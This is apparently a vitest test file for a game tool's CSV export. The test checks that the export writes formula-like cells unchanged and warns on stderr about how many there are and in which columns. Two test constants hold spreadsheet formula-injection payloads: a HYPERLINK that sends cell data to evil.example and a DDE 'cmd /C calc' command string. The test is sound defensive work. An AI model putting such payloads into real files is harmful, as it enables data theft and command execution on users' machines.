import { readFileSync } from "node:fs";
import { join } from "node:path";
import type { Client } from "@modelcontextprotocol/client";
import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { formulaCells } from "../../src/exports/formula-cells.js";
import type { RoundView as View } from "../../src/play/match-view.js";
import { requireBuiltCli, runCli } from "../support/built-cli.js";
import { call, connectClient, tempDeps } from "../support/harness.js";

// A spreadsheet runs a cell that begins with = + - @ as a formula. The CSV exports keep every cell as
// recorded (pandas, R and re-import read them byte for byte), and say on stderr, in one line, how many
// cells would be read as a formula and in which columns.

const PLAYER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const RATIONALE = "@SUM(1+1)*cmd|' /C calc'!A0";

let deps: ReturnType<typeof tempDeps>;
let client: Client;
beforeAll(requireBuiltCli);
beforeEach(async () => {
  deps = tempDeps();
  client = await connectClient(deps, { clientName: "formula-test" });
});
afterEach(async () => {
  await client.close();
  deps.dispose();
});

async function playOneRound(player: string, rationale: string): Promise<void> {
  const view = await call<View>(client, "start_match", {
    game: "prisoners-dilemma",
    framing: "business",
    opponent: "always-defect",
    player,
  });
  await call(client, "submit_move", { match_id: view.match_id, round: 1, choice: view.labels[0], rationale });
}

describe("CSV export of cells a spreadsheet would run", () => {
  it("writes them unchanged and says on stderr how many, in which columns, pointing at the docs", async () => {
    await playOneRound(PLAYER, RATIONALE);
    await playOneRound("plain-player", "-1 is not a number here, it is text");
    await playOneRound("plain-player", "a calm rationale");
    const out = join(deps.dir, "decisions.csv");
    const exported = runCli(["export", "decisions", "--db", deps.dbPath, "--out", out]);
    expect(exported.status).toBe(0);
    // The player's name in one row; the rationales of two rows (the = one and the - one).
    expect(exported.stderr.split("\n")).toEqual([
      'same-game: note: 3 text cell(s) of this CSV begin with =, +, -, @, a tab or a carriage return (column(s): player, rationale), which a spreadsheet may run as a formula; they are written unchanged, so open the file in a spreadsheet only as described in docs/import-export.md ("Spreadsheets and formulas").',
      expect.stringMatching(/^same-game: exported 3 decisions row\(s\) as csv to /),
      "",
    ]);
    const csv = readFileSync(out, "utf8");
    expect(csv).toContain(`"${PLAYER.replaceAll('"', '""')}"`);
    expect(csv).toContain(`${RATIONALE},`);

    // To stdout the same line goes to stderr, and stdout stays the CSV alone.
    const piped = runCli(["export", "decisions", "--db", deps.dbPath]);
    expect(piped.stdout).toBe(csv);
    expect(piped.stderr).toMatch(/^same-game: note: 3 text cell\(s\)/);

    // JSONL is no spreadsheet format: nothing said.
    expect(runCli(["export", "decisions", "--db", deps.dbPath, "--format", "jsonl"]).stderr).toBe("");
  });

  it("says nothing when no text cell begins like a formula", async () => {
    await playOneRound("plain-player", "a calm rationale");
    const exported = runCli(["export", "decisions", "--db", deps.dbPath]);
    expect(exported.status).toBe(0);
    expect(exported.stderr).toBe("");
    expect(exported.stdout).toContain("a calm rationale");
  });

  it("counts text cells only: a negative number is written as a number, never run", () => {
    const rows = [
      { player: "p", payoff: -1, rationale: "-x" },
      { player: "+q", payoff: -3, rationale: null },
      { player: "\tr", payoff: 2, rationale: "ok" },
    ];
    expect(formulaCells(["player", "payoff", "rationale"], rows)).toEqual({
      count: 3,
      columns: ["player", "rationale"],
    });
    expect(formulaCells(["payoff"], rows)).toEqual({ count: 0, columns: [] });
  });
});
